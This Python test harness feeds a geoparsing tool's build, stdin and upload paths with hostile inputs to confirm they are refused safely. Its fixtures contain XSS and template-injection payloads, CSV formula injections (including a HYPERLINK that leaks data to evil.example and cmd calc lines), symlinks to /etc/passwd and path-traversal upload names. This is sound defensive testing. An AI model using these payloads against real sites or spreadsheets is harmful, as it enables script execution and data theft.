"""Hostile inputs through every entry point (issue 15, point 4).

    python bench/hostile.py [--quick] [--only NAME …] [--keep] [--no-browser] [--json OUT]

Writes the hostile inputs into a temporary folder (never into the repository; the big ones,
a 100 MB single line and a 1M-row .jsonl, are generated at run time and skipped with
`--quick`), then puts each one through

- `python -m geo build` (a subprocess with its own --data-dir), with good articles beside it;
- `python -m geo geoparse` and `python -m geo events` with the file on stdin (`events FILE`
  for FIFOs and links, which have no bytes to send), checking one output line per input line
  (`events` passes over blank lines) and the good rows' ids;
- the dashboard's upload: `geo.app.uploads.save_upload` as the sidebar calls it (a good file
  before and after the hostile one), the build the page then runs (`geo.pipeline.build_store`
  on `geo.app.page.corpus_paths`), and what the page renders from that store: markers, the
  map's layer script, every place's detail panel, the events table and the CSV and GeoJSON
  downloads. The rendered HTML is parsed and checked for any element or attribute that could
  run a script, and the CSV for cells a spreadsheet would run as formulas.

Each run has 60 s. Per input and path it prints ok, refused (with the message), crash (a
Python traceback on stderr, an exit status other than 0/1/2, an exception out of the upload
code), hang (over 60 s, killed), script (markup that could run, or a formula cell) and lost N
(good articles beside the hostile file, or good rows inside it, missing from the store or the
output afterwards). `leak` marks a build whose store holds the text of a file outside the
corpus; `escape` an upload that wrote outside the uploads folder.

Then, when Debian's chromium is installed, the XSS inputs are built into one store and its
folium map (every tooltip and popup opened) and every place's detail panel are loaded in
Chromium through Playwright: no payload may run (window.__xss, document.title, dialogs).
"""

from __future__ import annotations

import argparse
import csv
import html.parser
import io
import json
import os
import select
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import traceback
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import IO

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

TIMEOUT_S = 60
CHROMIUM = Path("/usr/bin/chromium")

# --------------------------------------------------------------------------- good articles

GOOD_TEXTS = {
    "good_0.txt": (
        "WARSAW (Reuters) - Polish border guards said on Tuesday that about 200 migrants "
        "gathered near the village of Kuznica, close to the Belarusian city of Grodno.\n"
    ),
    "good_1.txt": (
        "MINSK (AP) - Belarusian officials accused Poland on Monday of attacking migrants "
        "with water cannon near the Bruzgi border crossing.\n"
    ),
    "good_2.txt": (
        "Lithuanian police detained 12 people near Vilnius on Wednesday, the interior "
        "ministry in Vilnius said.\n"
    ),
}
BESIDE = ("good_1.txt", "good_2.txt")
"""Placed beside every hostile file in the corpus, and uploaded before and after it."""
SEED = "good_0.txt"
"""The seeds of the upload path's store (the page builds seeds + uploads)."""
SECRET = "SECRET-7f3a outside the corpus: Minsk officials met in Grodno on Friday.\n"
"""A file outside the corpus that links point to: its text must never reach a store."""


def good_row_text(k: int) -> str:
    return (
        f"Ukrainian officials in Kyiv said on Friday that Russian forces shelled Kharkiv "
        f"overnight (report {k})."
    )


def jline(record: object) -> bytes:
    return (json.dumps(record, ensure_ascii=False) + "\n").encode("utf-8")


def good_rows(*numbers: int) -> bytes:
    return b"".join(jline({"id": f"good-{k}", "text": good_row_text(k)}) for k in numbers)


# --------------------------------------------------------------------------- cases


@dataclass(frozen=True)
class Fifo:
    """A named pipe no one writes to."""


@dataclass(frozen=True)
class Link:
    """A symbolic link; `{outside}` in the target is the folder outside every corpus."""

    target: str


@dataclass(frozen=True)
class Folder:
    """A directory (under a corpus file's name)."""


@dataclass(frozen=True)
class Stream:
    """Content too big to hold: written by `write(handle)` at run time."""

    write: Callable[[IO[bytes]], None]


Content = bytes | Fifo | Link | Folder | Stream


@dataclass(frozen=True)
class Case:
    name: str
    files: dict[str, Content]
    """Relative path in the corpus → content. The first is the hostile file."""
    upload_name: str | None = None
    """The name the browser sends with the upload (default: the hostile file's name)."""
    good_rows: tuple[int, ...] = ()
    """1-based line numbers of good rows (`good_rows(k)` ids good-k) inside the hostile file."""
    big: bool = False
    named: bool = False
    """Name the hostile file on the build command line, not only its folder."""
    xss: bool = False
    mode: int | None = None

    @property
    def hostile(self) -> str:
        return next(iter(self.files))

    @property
    def special(self) -> bool:
        return isinstance(self.files[self.hostile], Fifo | Link | Folder)


def xss(tag: str) -> str:
    """Markup that sets window.__xss (and the title, and alerts) wherever it is parsed."""
    return (
        f"<script>window.__xss='{tag}';document.title='XSS'</script>"
        f"<img src=x onerror=\"window.__xss='{tag}';alert('{tag}')\">"
        f"<svg onload=\"window.__xss='{tag}'\"></svg>"
        f"${{window.__xss='{tag}'}} `${{alert('{tag}')}}` "
        f"\"'><iframe srcdoc=\"<script>parent.__xss='{tag}'</script>\"></iframe>"
        f"</script><script>window.__xss='{tag}'</script>"
        f"<a href=\"javascript:window.__xss='{tag}'\">click</a>"
        f"[link](javascript:alert('{tag}')) {{{{constructor.constructor('window.__xss=1')()}}}}"
        " {{ 'SSTI-' ~ (7 * 191) }} {% if 1 %}SSTI-if{% endif %}"
    )


SSTI_MARKS = ("SSTI-1337", "SSTI-if ")
"""What the Jinja payloads above become if a template engine runs them."""


FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def xss_story(tag: str) -> str:
    """A story with events at known places, the payload inside its event sentences."""
    return (
        f"Polish border guards {xss(tag + '-a')} accused Belarus of pushing migrants towards "
        f"Kuznica on Tuesday {xss(tag + '-b')}, and officials in Warsaw condemned the attack "
        f"{xss(tag + '-c')}.\n\nBelarusian troops detained 20 migrants near Grodno on Monday "
        f"{xss(tag + '-d')}.\n"
    )


def _huge_line_txt(handle: IO[bytes]) -> None:
    chunk = b"Migrants gathered near Kuznica and Grodno on Tuesday. " * 20_000
    for _ in range(100 * 2**20 // len(chunk) + 1):
        handle.write(chunk)


def _huge_line_jsonl(handle: IO[bytes]) -> None:
    handle.write(good_rows(1))
    handle.write(b'{"id": "huge", "text": "')
    _huge_line_txt(handle)
    handle.write(b'"}\n')
    handle.write(good_rows(3))


MILLION = 1_000_000


def _million_rows(handle: IO[bytes]) -> None:
    """1M rows: a good row first and last, between them rows a reader must skip cheaply."""
    junk = (b"{}\n", b'{"id": %d}\n', b"[]\n", b'{"text": 5}\n', b"not json\n", b"\n")
    handle.write(good_rows(1))
    block = []
    for n in range(2, MILLION):
        pattern = junk[n % len(junk)]
        block.append(pattern % n if b"%d" in pattern else pattern)
        if len(block) == 10_000:
            handle.write(b"".join(block))
            block = []
    handle.write(b"".join(block))
    handle.write(good_rows(MILLION))


def _many_rows(rows: int) -> bytes:
    junk = (b"{}\n", b'{"id": 1}\n', b"[]\n", b'{"text": 5}\n', b"not json\n")
    body = b"".join(junk[n % len(junk)] for n in range(2, rows))
    return good_rows(1) + body + good_rows(rows)


def _random(n: int, seed: int) -> bytes:
    import random

    return random.Random(seed).randbytes(n)


def _deep_html(depth: int) -> bytes:
    return (
        b"<html><head><title>Deep</title></head><body>"
        + b"<div>" * depth
        + GOOD_TEXTS["good_1.txt"].replace("MINSK", "GRODNO").encode()
        + b"</div>" * depth
        + b"</body></html>"
    )


def build_cases() -> list[Case]:  # noqa: PLR0915 (a list of inputs)
    story = "Polish police said on Tuesday that migrants crossed the border near Kuznica.\n"
    u8 = story.encode()
    cases = [
        # ---- binary
        Case("binary_random_txt", {"random.txt": _random(65536, 1)}),
        Case("binary_random_jsonl", {"random.jsonl": _random(65536, 2)}),
        Case("binary_png_as_html", {"image.html": b"\x89PNG\r\n\x1a\n" + _random(20000, 3)}),
        Case("binary_elf_as_txt", {"program.txt": b"\x7fELF\x02\x01\x01" + _random(20000, 4)}),
        Case("gzip_as_jsonl", {"rows.jsonl": _gzip(good_rows(1, 2))}),
        Case("zip_as_txt", {"archive.txt": _zip(u8)}),
        Case("pdf_as_html", {"doc.html": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + _random(8000, 5)}),
        # ---- NUL bytes
        Case("nul_sprinkled_txt", {"nul.txt": u8.replace(b" ", b"\x00")}),
        Case("nul_only_txt", {"nul.txt": b"\x00" * 4096}),
        Case("nul_prefix_html", {"nul.html": b"\x00" * 8 + b"<p>" + u8 + b"</p>"}),
        Case(
            "nul_raw_in_jsonl_row",
            {"rows.jsonl": good_rows(1) + b'{"id": "x", "text": "a\x00b"}\n' + good_rows(3)},
            good_rows=(1, 3),
        ),
        Case(
            "nul_escaped_in_jsonl_row",
            {"rows.jsonl": good_rows(1) + jline({"id": "x", "text": "Kuznica\u0000" * 50})},
            good_rows=(1,),
        ),
        Case("nul_in_csv", {"rows.csv": b"id,text\nx,a\x00b\n"}),
        # ---- invalid UTF-8, surrogates
        Case("invalid_utf8_txt", {"bad.txt": u8 + b"\xff\xfe\xfd garbage \xc3\x28 \xa0\xa1\n"}),
        Case(
            "invalid_utf8_jsonl_row",
            {
                "rows.jsonl": good_rows(1)
                + b'{"id": "x", "text": "caf\xe9 \xff\xfe"}\n'
                + good_rows(3)
            },
            good_rows=(1, 3),
        ),
        Case("overlong_utf8_txt", {"overlong.txt": u8 + b"\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf\n"}),
        Case("surrogate_bytes_txt", {"surrogate.txt": u8 + b"\xed\xa0\x80\xed\xbf\xbf\n"}),
        Case(
            "lone_surrogate_escape_jsonl",
            {
                "rows.jsonl": good_rows(1)
                + b'{"id": "\\ud800", "text": "x \\udfff y"}\n'
                + good_rows(3)
            },
            good_rows=(1, 3),
        ),
        Case("mixed_utf8_latin1_txt", {"mixed.txt": u8 + "Łódź, Kraków\n".encode("iso8859_2")}),
        Case("bom_only_txt", {"bom.txt": b"\xef\xbb\xbf"}),
        Case("bom_repeated_txt", {"boms.txt": b"\xef\xbb\xbf" * 5 + u8}),
        # ---- UTF-16 / UTF-32 without BOM
        Case("utf16le_nobom_txt", {"u16.txt": story.encode("utf-16-le")}),
        Case("utf16be_nobom_txt", {"u16.txt": story.encode("utf-16-be")}),
        Case("utf16le_nobom_html", {"u16.html": f"<p>{story}</p>".encode("utf-16-le")}),
        Case(
            "utf16le_nobom_jsonl",
            {"u16.jsonl": good_rows(1, 2).decode().encode("utf-16-le")},
        ),
        Case("utf16_with_bom_txt", {"u16bom.txt": story.encode("utf-16")}),
        Case("utf32le_nobom_txt", {"u32.txt": story.encode("utf-32-le")}),
        # ---- empty and tiny
        Case("empty_txt", {"empty.txt": b""}),
        Case("empty_html", {"empty.html": b""}),
        Case("empty_jsonl", {"empty.jsonl": b""}),
        Case("empty_csv", {"empty.csv": b""}),
        Case("whitespace_only_txt", {"blank.txt": b" \n\t\r\n\x0b\x0c \n" * 100}),
        Case("blank_lines_jsonl", {"blank.jsonl": b"\n\n   \n\t\n"}),
        Case("html_no_text", {"nothing.html": b"<html><head><script>x()</script></head></html>"}),
        # ---- size
        Case("line_over_1mib_txt", {"long.txt": b"Kuznica " * (2**20 // 8 + 10)}),
        Case(
            "line_over_1mib_jsonl",
            {
                "long.jsonl": good_rows(1)
                + jline({"id": "long", "text": "Kuznica " * 140_000})
                + good_rows(3)
            },
            good_rows=(1, 3),
        ),
        Case("txt_over_5mb", {"big.txt": (b"Migrants gathered near Kuznica.\n" * 170_000)}),
        Case(
            "rows_20k_jsonl",
            {"rows.jsonl": _many_rows(20_000)},
            good_rows=(1, 20_000),
        ),
        Case("line_100mb_txt", {"huge.txt": Stream(_huge_line_txt)}, big=True),
        Case(
            "line_100mb_jsonl",
            {"huge.jsonl": Stream(_huge_line_jsonl)},
            good_rows=(1, 3),
            big=True,
        ),
        Case(
            "rows_1m_jsonl",
            {"million.jsonl": Stream(_million_rows)},
            good_rows=(1, MILLION),
            big=True,
        ),
        # ---- special files and links
        Case("fifo_txt", {"pipe.txt": Fifo()}),
        Case("fifo_jsonl", {"pipe.jsonl": Fifo()}),
        Case("fifo_named_on_command_line", {"pipe.txt": Fifo()}, named=True),
        Case("fifo_as_sidecar", {"articles.csv": Fifo()}),
        Case("symlink_out_of_corpus", {"leak.txt": Link("{outside}/secret.txt")}),
        Case("symlink_out_named", {"leak.txt": Link("{outside}/secret.txt")}, named=True),
        Case("symlink_relative_up", {"up.txt": Link("../../../outside/secret.txt")}),
        Case("symlink_etc_passwd", {"passwd.txt": Link("/etc/passwd")}),
        Case("symlink_dev_zero", {"zero.txt": Link("/dev/zero")}),
        Case("symlink_dev_urandom", {"urandom.jsonl": Link("/dev/urandom")}),
        Case("symlink_to_outside_fifo", {"outpipe.txt": Link("{outside}/pipe")}),
        Case("symlink_loop_self", {"loop.txt": Link("loop.txt")}),
        Case("symlink_loop_pair", {"a.jsonl": Link("b.jsonl"), "b.jsonl": Link("a.jsonl")}),
        Case("symlink_dangling", {"gone.txt": Link("{outside}/nowhere.txt")}),
        Case("symlink_dir_out_of_corpus", {"elsewhere": Link("{outside}/dir")}),
        Case("symlink_dir_loop", {"again": Link(".")}),
        Case("directory_named_txt", {"folder.txt": Folder()}),
        Case("unreadable_txt", {"secret.txt": u8}, mode=0o000),
        # ---- file names
        Case("name_not_utf8", {"caf\udce9-\udcff.txt": u8}),
        Case("name_newline", {"two\nlines.txt": u8}),
        Case("name_terminal_escape", {"\x1b]0;pwned\x07\x1b[31mred.txt": u8}),
        Case("name_255_chars", {"n" * 251 + ".txt": u8}),
        Case("name_dash_option", {"--force.txt": u8}),
        Case("name_dir_not_utf8", {"d\udcff/inner.txt": u8}),
        # ---- path traversal in upload and sidecar names
        Case("upload_name_dotdot", {"evil.txt": u8}, upload_name="../../escaped.txt"),
        Case("upload_name_backslash", {"evil.txt": u8}, upload_name="..\\..\\escaped.txt"),
        Case("upload_name_absolute", {"evil.txt": u8}, upload_name="{case}/abs_escaped.txt"),
        Case("upload_name_nul", {"evil.txt": u8}, upload_name="escaped.txt\x00.html"),
        Case("upload_name_dots_only", {"evil.txt": u8}, upload_name="..txt"),
        Case("upload_name_sidecar", {"evil.txt": u8}, upload_name="articles.csv"),
        Case("upload_name_hidden", {"evil.txt": u8}, upload_name=".txt"),
        Case(
            "upload_name_markup",
            {"evil.txt": u8},
            upload_name="[x](javascript:alert(1))<img src=x onerror=alert(1)>.txt",
        ),
        Case(
            "sidecar_file_dotdot",
            {
                "articles.csv": b"file,title\n../../outside/secret.txt,Leak\n../good_1.txt,Up\n",
                "story.txt": u8,
            },
        ),
        Case(
            "sidecar_file_absolute",
            {"articles.csv": b"file,title\n/etc/passwd,Leak\n", "story.txt": u8},
        ),
        Case("sidecar_binary", {"articles.csv": _random(5000, 6), "story.txt": u8}),
        Case("sidecar_nul", {"articles.csv": b"file,title\nstory.txt,a\x00b\n", "story.txt": u8}),
        Case(
            "sidecar_huge_field",
            {"articles.csv": b"file,title\nstory.txt," + b"T" * 300_000 + b"\n", "story.txt": u8},
        ),
        Case(
            "sidecar_unclosed_quote",
            {"articles.csv": b'file,title\nstory.txt,"never closed\n', "story.txt": u8},
        ),
        Case(
            "sidecar_bad_dates",
            {"articles.csv": b"file,published\nstory.txt,99999-99-99T99:99\n", "story.txt": u8},
        ),
        # ---- JSON shapes
        Case(
            "nested_arrays_jsonl",
            {"deep.jsonl": good_rows(1) + b"[" * 200_000 + b"]" * 200_000 + b"\n" + good_rows(3)},
            good_rows=(1, 3),
        ),
        Case(
            "nested_objects_jsonl",
            {
                "deep.jsonl": good_rows(1)
                + b'{"a":' * 100_000
                + b"1"
                + b"}" * 100_000
                + b"\n"
                + good_rows(3)
            },
            good_rows=(1, 3),
        ),
        Case(
            "nested_text_field_jsonl",
            {
                "rows.jsonl": good_rows(1)
                + jline({"id": "n", "text": {"text": {"text": ["Kuznica"] * 3}}})
                + jline({"id": "m", "text": [[[[[[["Grodno"]]]]]]]})
                + good_rows(4)
            },
            good_rows=(1, 4),
        ),
        Case(
            "json_array_document",
            {"array.jsonl": json.dumps([{"id": "a", "text": good_row_text(9)}], indent=2).encode()},
        ),
        Case(
            "huge_numbers_jsonl",
            {
                "rows.jsonl": good_rows(1)
                + b'{"id": '
                + b"9" * 5000
                + b', "text": "Minsk"}\n'
                + b'{"id": "f", "text": "Minsk", "published": 1e999999}\n'
                + good_rows(4)
            },
            good_rows=(1, 4),
        ),
        Case(
            "wrong_field_types_jsonl",
            {
                "rows.jsonl": good_rows(1)
                + jline({"id": None, "text": True, "title": 5})
                + jline(
                    {
                        "id": [1],
                        "text": "Police in Minsk said.",
                        "title": {"a": 1},
                        "url": ["x"],
                        "published": {"y": 2024},
                        "source": 3.5,
                    }
                )
                + good_rows(4)
            },
            good_rows=(1, 4),
        ),
        Case(
            "duplicate_keys_jsonl",
            {
                "rows.jsonl": good_rows(1)
                + b'{"id": "d", "text": "Minsk police said.", "text": null}\n'
                + good_rows(3)
            },
            good_rows=(1, 3),
        ),
        Case("csv_unclosed_quote", {"rows.csv": b'id,text\na,"never closed\nb,more\n'}),
        Case("csv_huge_field", {"rows.csv": b"id,text\na," + b"K" * 300_000 + b"\n"}),
        Case(
            "csv_100k_columns",
            {
                "rows.csv": b",".join(b"c%d" % i for i in range(100_000))
                + b",text\n"
                + b"," * 100_000
                + b"x\n"
            },
        ),
        # ---- HTML
        Case("html_deeply_nested", {"deep.html": _deep_html(100_000)}),
        Case(
            "html_unclosed_script",
            {"open.html": b"<html><body><p>" + u8 + b"</p><script>while(1){}"},
        ),
        Case("html_charset_lie", {"lie.html": b'<meta charset="utf-16"><p>' + u8 + b"</p>"}),
        Case("html_unknown_charset", {"odd.html": b'<meta charset="x-evil-42"><p>' + u8 + b"</p>"}),
        Case(
            "html_huge_attribute",
            {"attr.html": b'<p data-x="' + b"A" * 4_000_000 + b'">' + u8 + b"</p>"},
        ),
        # ---- XSS and formulas (also checked in Chromium)
        Case(
            "xss_txt",
            {
                "xss.txt": (
                    '=HYPERLINK("http://evil.example","x") '
                    + xss("title")
                    + "\n\n"
                    + xss_story("txt")
                ).encode()
            },
            xss=True,
        ),
        Case("xss_jsonl", {"xss.jsonl": _xss_rows()}, xss=True),
        Case("xss_html", {"xss.html": _xss_html()}, xss=True),
        Case(
            "xss_sidecar",
            {"articles.csv": _xss_sidecar(), "story.txt": xss_story("sidecar").encode()},
            xss=True,
        ),
        Case("xss_csv_formulas", {"xss.csv": _xss_csv()}, xss=True),
    ]
    names = [c.name for c in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return cases


def _gzip(data: bytes) -> bytes:
    import gzip

    return gzip.compress(data, mtime=0)


def _zip(data: bytes) -> bytes:
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("story.txt", data)
    return buffer.getvalue()


def _xss_rows() -> bytes:
    rows = [
        {
            "id": "x1",
            "title": xss("jsonl-title"),
            "source": xss("jsonl-source"),
            "url": "javascript:window.__xss='jsonl-url'//http://example.com/",
            "published": "2021-11-16",
            "text": xss_story("jsonl1"),
        },
        {
            "id": "x2",
            "title": FORMULAS[0],
            "source": FORMULAS[3],
            "url": "http://example.com/\"><script>window.__xss='jsonl-url2'</script>",
            "published": "2021-11-17",
            "text": FORMULAS[1] + "\n\n" + xss_story("jsonl2"),
        },
        {
            "id": "x3",
            "title": FORMULAS[4],
            "source": FORMULAS[5],
            "url": "data:text/html,<script>window.__xss='jsonl-data'</script>",
            "published": "2021-11-18",
            "text": "-2+3 Belarusian troops detained 20 migrants near Grodno on Monday, "
            + FORMULAS[2]
            + ".\n",
        },
    ]
    return b"".join(jline(r) for r in rows)


def _xss_html() -> bytes:
    body = html_escape(xss_story("html-text"))
    return (
        "<html><head>"
        f"<title>{html_escape(xss('html-title'))}</title>"
        f'<meta property="og:title" content="{html_escape(xss("html-og"))}">'
        f'<meta property="og:site_name" content="{html_escape(xss("html-site"))}">'
        '<meta property="og:url" content="javascript:window.__xss=\'html-url\'">'
        '<link rel="canonical" href="javascript:window.__xss=\'html-canon\'">'
        '<meta name="date" content="2021-11-16">'
        "<script>window.__xss='html-head'</script></head>"
        "<body onload=\"window.__xss='html-onload'\">"
        "<script>window.__xss='html-body'</script>"
        "<iframe src=\"javascript:window.__xss='iframe'\"></iframe>"
        f"<article><p>{body}</p>"
        "<p onclick=\"window.__xss='html-onclick'\">Warsaw officials said on Tuesday they "
        "closed the crossing at Kuznica <img src=x onerror=\"window.__xss='html-img'\">.</p>"
        "</article></body></html>"
    ).encode()


def html_escape(text: str) -> str:
    import html

    return html.escape(text, quote=True)


def _xss_sidecar() -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["file", "title", "source", "url", "published", "override"])
    writer.writerow(
        [
            "story.txt",
            xss("sidecar-title"),
            FORMULAS[0],
            "javascript:window.__xss='sidecar-url'",
            "2021-11-16",
            "yes",
        ]
    )
    return buffer.getvalue().encode()


def _xss_csv() -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["id", "title", "source", "url", "published", "text"])
    for k, formula in enumerate(FORMULAS):
        writer.writerow(
            [
                formula,
                formula,
                formula,
                formula,
                "2021-11-16",
                f"{formula} Polish border guards accused Belarus on Tuesday of pushing "
                f"migrants towards Kuznica near Grodno (item {k}).",
            ]
        )
    return buffer.getvalue().encode()


# --------------------------------------------------------------------------- writing inputs


def write_case(case: Case, case_dir: Path, outside: Path) -> Path:
    """The case's corpus folder: the hostile file(s) and the good articles beside them."""
    corpus = case_dir / "corpus"
    corpus.mkdir(parents=True)
    for name, text in GOOD_TEXTS.items():
        if name in BESIDE:
            (corpus / name).write_text(text, encoding="utf-8")
    for name, content in case.files.items():
        path = corpus / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Fifo):
            os.mkfifo(path)
        elif isinstance(content, Link):
            os.symlink(content.target.replace("{outside}", str(outside)), path)
        elif isinstance(content, Folder):
            path.mkdir()
        elif isinstance(content, Stream):
            with open(path, "wb") as handle:
                content.write(handle)
        else:
            path.write_bytes(content)
    if case.mode is not None:
        os.chmod(corpus / case.hostile, case.mode)
    return corpus


def write_outside(root: Path) -> Path:
    outside = root / "outside"
    (outside / "dir").mkdir(parents=True)
    (outside / "secret.txt").write_text(SECRET, encoding="utf-8")
    (outside / "dir" / "secret.txt").write_text(SECRET.replace("7f3a", "dir"), encoding="utf-8")
    os.mkfifo(outside / "pipe")
    return outside


# --------------------------------------------------------------------------- outcomes


@dataclass
class Outcome:
    status: str  # ok, refused, crash, hang, n/a
    message: str = ""
    lost: int = 0
    script: int = 0
    leak: bool = False
    escape: int = 0
    seconds: float = 0.0

    def cell(self, width: int = 44) -> str:
        text = self.status
        if self.status in ("refused", "crash") and self.message:
            text += ": " + " ".join(self.message.split())
        if len(text) > width:
            text = text[: width - 1] + "…"
        extra = []
        if self.lost:
            extra.append(f"LOST {self.lost}")
        if self.script:
            extra.append(f"SCRIPT {self.script}")
        if self.leak:
            extra.append("LEAK")
        if self.escape:
            extra.append(f"ESCAPE {self.escape}")
        return text + (" [" + ", ".join(extra) + "]" if extra else "")


@dataclass
class Run:
    returncode: int | None
    stdout: Path
    stderr: Path
    seconds: float

    def err_text(self, limit: int = 200_000) -> str:
        with open(self.stderr, "rb") as handle:
            return handle.read(limit).decode("utf-8", "replace")

    def out_text(self, limit: int = 200_000) -> str:
        with open(self.stdout, "rb") as handle:
            return handle.read(limit).decode("utf-8", "replace")


def run_geo(args: list[str], work: Path, stdin: Path | None = None) -> Run:
    """`python -m geo ARGS` in its own session, killed with its children after TIMEOUT_S."""
    out, err = work / f"{args[0]}.out", work / f"{args[0]}.err"
    env = {k: v for k, v in os.environ.items() if not k.startswith("GEO_ONLINE")}
    start = time.monotonic()
    with open(out, "wb") as o, open(err, "wb") as e:
        source = open(stdin, "rb") if stdin is not None else subprocess.DEVNULL  # noqa: SIM115
        try:
            process = subprocess.Popen(
                [sys.executable, "-m", "geo", *args],
                stdin=source,
                stdout=o,
                stderr=e,
                cwd=ROOT,
                env=env,
                start_new_session=True,
            )
            try:
                code: int | None = process.wait(timeout=TIMEOUT_S)
            except subprocess.TimeoutExpired:
                os.killpg(process.pid, signal.SIGKILL)
                process.wait()
                code = None
        finally:
            if stdin is not None:
                source.close()  # type: ignore[union-attr]
    return Run(code, out, err, time.monotonic() - start)


def crashed(run: Run) -> str | None:
    """Why a finished run counts as a crash, or None."""
    err = run.err_text(5_000_000)
    if "Traceback (most recent call last)" in err:
        lines = [line for line in err.splitlines() if line and not line.startswith(" ")]
        return lines[-1] if lines else "traceback"
    if run.returncode not in (0, 1, 2):
        return f"exit status {run.returncode}"
    return None


def expected_ids(case: Case, rows: bool = True) -> set[str]:
    """The good articles beside the hostile file, and (`rows`) the good rows inside it."""
    from geo.ingest.articles import article_id

    ids = {article_id(GOOD_TEXTS[name]) for name in BESIDE}
    return ids | {article_id(good_row_text(k)) for k in case.good_rows if rows}


def store_articles(data_dir: Path) -> tuple[set[str], str]:
    """(article ids, all texts joined) of the store, empty when there is none."""
    from geo import store

    try:
        articles = store.load_articles(data_dir)
    except (store.StoreError, OSError):
        return set(), ""
    ids = set(articles["article_id"].astype(str))
    texts = []
    cache = data_dir / "cache"
    if cache.is_dir():  # the analysed texts live in the article cache
        for path in cache.rglob("*"):
            if path.is_file():
                texts.append(path.read_bytes().decode("utf-8", "replace"))
    return ids, "\n".join(texts)


def build_outcome(case: Case, case_dir: Path, corpus: Path) -> Outcome:
    data = case_dir / "data"
    work = case_dir / "build"
    work.mkdir()
    targets = [str(corpus)]
    if case.named:
        targets = [str(corpus / name) for name in (*BESIDE, case.hostile)]
    run = run_geo(["build", "--quiet", "--data-dir", str(data), *targets], work)
    ids, texts = store_articles(data)
    # Good rows inside a file refused whole, with a message naming it, are not lost in
    # silence: the user is told to fix the file. Rows dropped around a bad row are.
    refused_whole = f"  {corpus / case.hostile}: " in run.out_text(50_000_000)
    lost = len(expected_ids(case, rows=not refused_whole) - ids)
    leak = "SECRET-" in texts and not case.named  # a path named is read where it leads
    if run.returncode is None:
        return Outcome("hang", lost=lost, leak=leak, seconds=run.seconds)
    why = crashed(run)
    if why:
        return Outcome("crash", why, lost=lost, leak=leak, seconds=run.seconds)
    if run.returncode == 0:
        return Outcome("ok", lost=lost, leak=leak, seconds=run.seconds)
    return Outcome("refused", _build_message(run, case), lost=lost, leak=leak, seconds=run.seconds)


def _build_message(run: Run, case: Case) -> str:
    out = run.out_text().splitlines()
    skipped = [line.strip() for line in out if line.startswith("  ")]
    stem = Path(case.hostile).name[:8]
    mine = [line for line in skipped if stem in line] or skipped
    if mine:
        path, _, reason = mine[0].partition(": ")
        return reason or path
    err = [line for line in run.err_text().splitlines() if line.strip()]
    return (err or out or [f"exit {run.returncode}"])[-1]


# --------------------------------------------------------------------------- geoparse, events


def stdin_lines(path: Path) -> tuple[int, int, dict[int, int]]:
    """(lines, non-blank lines, line number → index among non-blank lines) as the stdin
    commands read them: split at \\n, UTF-8 with surrogateescape, a leading BOM dropped;
    a line over the 1 MiB limit is never blank (its output line is an error)."""
    lines = nonblank = 0
    index: dict[int, int] = {}
    limit = 2**20
    with open(path, "rb") as handle:
        while piece := handle.readline(limit + 1):
            long = False
            while len(piece) > limit and not piece.endswith(b"\n"):
                long = True
                piece = handle.readline(limit + 1)
            if lines == 0 and piece.startswith(b"\xef\xbb\xbf"):
                piece = piece[3:]
                if not piece and not long:
                    continue  # a BOM alone: an empty stream
            lines += 1
            if long or piece.decode("utf-8", "surrogateescape").strip():
                index[lines] = nonblank
                nonblank += 1
    return lines, nonblank, index


def stream_outcome(command: str, case: Case, case_dir: Path, corpus: Path) -> Outcome:
    hostile = corpus / case.hostile
    work = case_dir / command
    work.mkdir()
    if case.special:
        if command == "geoparse":
            return Outcome("n/a", "no bytes to send on stdin")
        run = run_geo(["events", str(hostile)], work)
        expected = None
    else:
        run = run_geo([command], work, stdin=hostile)
        expected = stdin_lines(hostile)
    if run.returncode is None:
        return Outcome("hang", seconds=run.seconds)
    why = crashed(run)
    lost = 0
    if expected is not None:
        lost = _lost_lines(command, case, run, expected)
    if why:
        return Outcome("crash", why, lost=lost, seconds=run.seconds)
    if run.returncode == 0:
        return Outcome("ok", lost=lost, seconds=run.seconds)
    first, refused = _stderr_summary(run, command)
    message = first or f"exit {run.returncode}"
    if refused > 1:
        message = f"{refused} lines refused; {message}"
    return Outcome("refused", message, lost=lost, seconds=run.seconds)


def _stderr_summary(run: Run, command: str) -> tuple[str, int]:
    """(first message, number of lines refused) of a stdin command's stderr."""
    first, refused = "", 0
    with open(run.stderr, "rb") as handle:
        for raw in handle:
            line = raw.decode("utf-8", "replace").strip()
            if not line:
                continue
            first = first or line.removeprefix(f"{command}: ")
            refused += line.startswith(f"{command}: line ")
    return first, refused


def _lost_lines(command: str, case: Case, run: Run, expected) -> int:
    """Input lines without their output line, plus good rows whose output is wrong."""
    lines, nonblank, index = expected
    want = lines if command == "geoparse" else nonblank
    outputs: list[object] = []
    with open(run.stdout, "rb") as handle:
        for raw in handle:
            try:
                outputs.append(json.loads(raw).get("id", "?"))
            except (ValueError, AttributeError):
                outputs.append("<not JSON>")
    lost = abs(want - len(outputs))
    bad_lines = set()
    with open(run.stderr, "rb") as handle:
        for raw in handle:
            parts = raw.decode("utf-8", "replace").split(": line ", 1)
            if len(parts) == 2 and parts[1].split(":")[0].isdigit():
                bad_lines.add(int(parts[1].split(":")[0]))
    for k in case.good_rows:
        at = k - 1 if command == "geoparse" else index.get(k)
        if at is None or at >= len(outputs) or outputs[at] != f"good-{k}" or k in bad_lines:
            lost += 1
    return lost


# --------------------------------------------------------------------------- upload


def upload_job(case: Case, case_dir: Path, corpus: Path) -> dict[str, object] | None:
    if case.special:
        return None
    up = case_dir / "upload"
    seeds = up / "seeds"
    seeds.mkdir(parents=True)
    (seeds / SEED).write_text(GOOD_TEXTS[SEED], encoding="utf-8")
